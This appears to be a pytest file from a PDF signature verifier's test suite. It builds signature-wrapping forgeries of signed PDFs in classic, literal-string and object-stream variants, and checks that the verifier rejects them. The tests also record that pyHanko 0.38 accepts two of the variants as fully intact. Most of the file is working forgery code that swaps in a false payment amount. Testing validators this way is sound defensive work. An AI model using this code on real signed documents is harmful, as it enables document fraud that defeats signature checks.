"""Signature wrapping (SWA, Mladenov et al. 2019).

The signed blocks A = [0, a) and B = [b, b + c) keep their bytes but B is moved back; the hole
between them holds new objects, a copy of the signature dictionary whose /ByteRange points at
B's new place, and (at the offset B's own `startxref` names) a new cross-reference section that
re-points the signature dictionary and the page content to the new objects. In the classic
attack the copy's /Contents is hex, so the hole cannot be as small as pyHanko's size arithmetic
requires and pyHanko says the coverage is unclear; with /Contents as a literal string, or as hex
inside a compressed object stream, the arithmetic balances and pyHanko 0.38 reports the whole
file covered and unmodified. kyso must say INVALID in every case.
"""

from __future__ import annotations

import zlib

import pytest

from tests.attacks import kit

FORGED_TEXT = b"BT /F1 12 Tf 72 700 Td (Tong kinh phi: 9.000.000.000 dong) Tj ET\n"


def _literal(value: bytes) -> bytes:
    """A literal string that reads back as exactly `value` (ends of line escaped too)."""
    out = value.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"(" + out.replace(b"\r", b"\\r").replace(b"\n", b"\\n") + b")"


def wrap(signed: bytes, variant: str, field: str = "Signature1") -> bytes:
    """The SWA forgery of the last signature of `signed` (one revision per signature, the
    signature dictionary in the last one). variant: classic | literal | objstm."""
    r = kit.reader(signed)
    sig_num = kit.sig_object_ref(signed, field)
    content_num = kit.page_content_ref(signed)
    sig = r.get_object(kit._ref(r, sig_num))
    _, a, b, c = (int(v) for v in sig["/ByteRange"])
    cms = sig["/Contents"].original_bytes
    x_orig = kit.last_startxref(signed)
    assert b <= x_orig < b + c and b + c == len(signed)
    last = r.xrefs._xref_sections[-1]
    entries = dict(last.xref_data.standard_xrefs)  # num -> (gen, offset) of the signed revision
    prev_of_last = int(r.trailer.raw_get("/Prev"))
    root, size, ids = kit.trailer_info(signed)

    head = b"<00>\n>>\nendobj\n"  # closes the orphaned original dictionary
    content_body = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        content_num, len(FORGED_TEXT), FORGED_TEXT)
    sig_keys = b"/Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached"

    if variant == "objstm":
        return _wrap_objstm(signed, a, b, c, cms, x_orig, entries, prev_of_last, root, size, ids, head,
                            content_body, content_num, sig_num, sig_keys)

    def xref_section(b_new: int, copy_at: int, content_at: int) -> bytes:
        delta = b_new - b
        table = {}
        for num, (gen, off) in entries.items():
            table[num] = (off + delta if off >= b else off, gen, "n")
        table[sig_num] = (copy_at, 0, "n")
        table[content_num] = (content_at, 0, "n")
        return kit.xref_table(table) + b"trailer\n<< /Size %d /Root %s /Prev %d %s >>\n" % (
            size, root, prev_of_last, ids)

    def copy(b_new: int, contents: bytes) -> bytes:
        # /ByteRange padded to a fixed width, so that its length does not depend on b_new
        return b"%d 0 obj\n<< %s /ByteRange [0 %d %10d %d] /Contents %s >>\nendobj\n" % (
            sig_num, sig_keys, a, b_new, c, contents)

    xref_len = len(xref_section(b + 10 ** 6, 10 ** 6, 10 ** 6))  # offsets are fixed-width
    hole = head
    content_at = a + len(hole)
    hole += content_body
    if variant == "literal":
        # the copy's /Contents reads back as `length` bytes; the hole must be 2 * length + 2
        length = (x_orig + xref_len + 64 - a) // 2 + 1
        b_new = a + 2 * length + 2
        copy_at = a + len(hole)
        hole += copy(b_new, _literal(cms + bytes(length - len(cms))))
        assert a + len(hole) <= x_orig, "the hole is too small for this document"
        hole += b" " * (x_orig - a - len(hole))
        hole += xref_section(b_new, copy_at, content_at)
        hole += b" " * (b_new - a - len(hole))
    else:  # classic: a hex copy after the new xref section; B follows it, whatever the sizes
        hex_contents = b"<" + cms.hex().upper().encode() + b">"
        copy_at = x_orig + xref_len
        b_new = copy_at + len(copy(0, hex_contents))
        hole += b" " * (x_orig - a - len(hole))
        hole += xref_section(b_new, copy_at, content_at)
        hole += copy(b_new, hex_contents)
    assert len(hole) == b_new - a
    return signed[:a] + hole + signed[b:b + c]


def _wrap_objstm(signed, a, b, c, cms, x_orig, entries, prev_of_last, root, size, ids, head,
                 content_body, content_num, sig_num, sig_keys):
    """The copy of the signature dictionary in a compressed object stream, found through an
    xref stream at the offset B's `startxref` names."""
    stm_num, xref_num = size, size + 1
    hole = head
    content_at = a + len(hole)
    hole += content_body

    def objstm(length: int) -> bytes:
        value = cms + bytes(length - len(cms))
        body = b"<< %s /ByteRange [0 %d %d %d] /Contents <%s> >>" % (
            sig_keys, a, a + 2 * length + 2, c, value.hex().upper().encode())
        header = b"%d 0 " % sig_num
        data = zlib.compress(header + body)
        return b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
            stm_num, len(header), len(data), data)

    def xref_stream(b_new: int, stm_at: int) -> bytes:
        delta = b_new - b
        rows = {}
        for num, (gen, off) in entries.items():
            rows[num] = (1, off + delta if off >= b else off, gen)
        rows[content_num] = (1, content_at, 0)
        rows[stm_num] = (1, stm_at, 0)
        rows[sig_num] = (2, stm_num, 0)
        nums = sorted(rows)
        index = b" ".join(b"%d 1" % n for n in nums)
        data = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in (rows[n] for n in nums))
        return b"%d 0 obj\n<< /Type /XRef /Size %d /Root %s /Prev %d %s /W [1 4 2] /Index [%s] /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
            xref_num, xref_num + 1, root, prev_of_last, ids, index, len(data), data)

    xref_len = len(xref_stream(b + 10 ** 6, 10 ** 6))
    length = (x_orig + xref_len + 64 - a) // 2 + 1
    b_new = a + 2 * length + 2
    stm_at = a + len(hole)
    hole += objstm(length)
    assert a + len(hole) <= x_orig
    hole += b" " * (x_orig - a - len(hole))
    hole += xref_stream(b_new, stm_at)
    hole += b" " * (b_new - a - len(hole))
    assert len(hole) == b_new - a
    return signed[:a] + hole + signed[b:b + c]


def pyhanko_says(data: bytes):
    """What pyHanko 0.38 alone concludes about the first signature (default diff policy)."""
    from pyhanko.sign.validation import validate_pdf_signature
    from pyhanko_certvalidator import ValidationContext

    from pyhanko.keys import load_certs_from_pemder

    emb = kit.reader(data, strict=False).embedded_signatures[0]
    roots = list(load_certs_from_pemder([str(kit.PKI / "trust.pem")]))
    status = validate_pdf_signature(emb, ValidationContext(trust_roots=roots, allow_fetching=False))
    return status


@pytest.fixture(scope="module")
def trust():
    return kit.trust()


@pytest.fixture(scope="module", params=["pyhanko-order", "itext-order"])
def signed(request):
    """One signed one-page document per key order of the signature dictionary."""
    return kit.sign_raw(kit.base_pdf(), byterange_first=request.param == "itext-order")


def test_the_signed_document_is_valid(signed, trust):
    assert kit.verify(signed, trust).verdict == "VALID"


@pytest.mark.parametrize("variant", ["classic", "literal", "objstm"])
def test_signature_wrapping_is_invalid(signed, trust, variant):
    forged = wrap(signed, variant)
    report = kit.verify(forged, trust)
    assert report.verdict == "INVALID", kit.explain(report)
    found = kit.codes(report)
    assert "SIGNATURE_GAP_INVALID" in found, kit.explain(report)
    if variant != "classic":
        # the copy holding the validated /Contents is no hex string enclosing the hole
        assert "SIGNATURE_DICT_MISPLACED" in found
        reason = next(f.params["reason"] for f in report.findings if f.code == "SIGNATURE_DICT_MISPLACED")
        assert ("literal string" in reason) if variant == "literal" else ("object stream" in reason)
    # the orphaned original signature dictionary is a body no xref section points to
    assert "UNREFERENCED_OBJECT" in found


@pytest.mark.parametrize("variant", ["literal", "objstm"])
def test_pyhanko_alone_is_fooled_by_the_balanced_variants(signed, variant):
    """Why the check exists: pyHanko reports these forgeries intact, covering the whole file."""
    status = pyhanko_says(wrap(signed, variant))
    assert status.intact and status.valid
    assert status.coverage.name == "ENTIRE_FILE"
    assert status.modification_level.name == "NONE"


def test_the_classic_variant_is_unclear_to_pyhanko(signed, trust):
    status = pyhanko_says(wrap(signed, "classic"))
    assert status.coverage.name != "ENTIRE_FILE"


def test_the_forged_page_is_what_readers_show(signed):
    """The forgery is real: pyHanko's own reader renders the new amount."""
    forged = wrap(signed, "literal")
    page = kit.reader(forged).root["/Pages"]["/Kids"][0]
    assert b"9.000.000.000" in page["/Contents"].data
